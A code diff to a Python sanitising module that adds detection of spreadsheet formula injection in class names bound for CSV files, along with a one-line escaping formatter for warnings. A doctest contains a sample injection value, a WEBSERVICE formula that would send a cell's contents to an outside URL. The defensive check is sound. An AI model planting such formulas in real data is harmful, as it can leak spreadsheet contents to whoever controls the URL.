@@ -12,6 +12,7 @@ import logging
 import re
 import traceback
 import unicodedata
+import warnings
 from collections.abc import Callable, Sequence
 from functools import lru_cache
 from typing import Final
@@ -22,6 +23,7 @@ LONGEST_PATH: Final = 1024
 MOST_MARKS: Final = 4
 """Combining marks on one character: written languages stack fewer, and a flood of them covers the lines around it."""
 _SHOWN: Final = 40
+_LONGEST_WARNING: Final = 1000
 _LISTED: Final = 10
 
 # Also unassigned ones (Cn): nobody knows what a terminal of tomorrow makes of them, and no name needs them.
@@ -36,6 +38,8 @@ _NOTHING: Final = frozenset(
     *range(0xE0100, 0xE01F0),
 }
 _UNUSUAL: Final = re.compile(r"[^\x20-\x7e]+")
+# A sign in front, and a function's call or a command of another program (DDE) behind it.
+_FORMULA: Final = re.compile(r"\s*[=+\-@](?s:.*)(?:\w\(|\|.*!)")
 _BLANKS: Final = re.compile(r"(?<=\s) |[^\S ]")
 
 
@@ -123,6 +127,17 @@ def fault(name: str, longest: int = LONGEST_NAME) -> str | None:
     return None
 
 
+def formula_fault(name: str) -> str | None:
+    """Why a name is not written into tables, as a clause; None for one that no spreadsheet would run.
+
+    A class name is a cell of its own in the CSV files of predictions. Signs alone, as ``+`` for a positive test, pass.
+
+    >>> formula_fault('=WEBSERVICE("http://a/"&A2)'), formula_fault("+ (weak)")
+    ('a spreadsheet would run it as a formula', None)
+    """
+    return "a spreadsheet would run it as a formula" if _FORMULA.match(name) else None
+
+
 class PrintableLogs(logging.Filter):
     """Escapes what is logged: names in it come from others, and whoever reads the log does so in a terminal."""
 
@@ -136,6 +151,20 @@ class PrintableLogs(logging.Filter):
             said = "".join(traceback.format_exception(*record.exc_info)).rstrip("\n")
             record.exc_text = printable(said, keep="\n")
         return True
+
+
+def escape_warnings() -> None:
+    """Have Python print each warning of this process on one line that hides nothing.
+
+    Libraries quote in them what a file holds, such as the version that a model says it was written with.
+    """
+
+    def one_line(
+        message: Warning | str, category: type[Warning], filename: str, lineno: int, line: str | None = None
+    ) -> str:
+        return f"{filename}:{lineno}: {category.__name__}: {printable(cut(str(message), _LONGEST_WARNING))}\n"
+
+    warnings.formatwarning = one_line
 
 
 def _replaced(text: str, keep: str, escape: Callable[[str], str]) -> str:
